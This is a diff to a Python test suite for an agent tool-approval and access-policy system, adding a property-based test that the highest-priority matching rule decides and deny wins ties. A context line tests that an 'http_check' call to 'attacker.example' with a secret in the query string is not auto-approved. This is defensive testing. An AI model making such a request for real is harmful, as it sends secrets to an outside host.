@@ -287,3 +287,38 @@ def test_http_check_is_never_approved_by_rule_alone() -> None:
     agent_rules = create_rule_based_approval_func(read_only_tools=READ_ONLY_TOOLS)
     assert verdict_of(agent_rules, "http_check", url="https://attacker.example/?q=secret").approved is None
     assert verdict_of(agent_rules, "who_is_on_call", schedule_id=1).approved is True
+
+
+@given(
+    st.lists(
+        st.builds(
+            PolicyRule,
+            id=st.integers(1, 10_000),
+            subject_kind=st.sampled_from(["role", "user", "*"]),
+            subject=st.sampled_from(["responder", "admin", "7", "8", "*"]),
+            tool_pattern=st.sampled_from(["*", "resolve_*", "resolve_incident", "get_*"]),
+            effect=st.sampled_from(["allow", "deny"]),
+            priority=st.integers(-3, 3),
+        ),
+        max_size=12,
+    )
+)
+def test_the_deciding_policy_has_the_top_priority_and_deny_wins_ties(policy_rules: list[PolicyRule]) -> None:
+    caller = Caller(user_id=7, role="responder")
+    chosen = evaluate(policy_rules, "resolve_incident", caller)
+    matching = [
+        r
+        for r in policy_rules
+        if r.tool_pattern in ("*", "resolve_*", "resolve_incident")
+        and (
+            r.subject_kind == "*"
+            or r.subject in ("responder", "7")
+            and r.subject_kind == ("role" if r.subject == "responder" else "user")
+        )
+    ]
+    if not matching:
+        assert chosen is None
+        return
+    top = max(r.priority for r in matching)
+    assert chosen is not None and chosen.priority == top
+    assert (chosen.effect == "deny") == any(r.effect == "deny" for r in matching if r.priority == top)
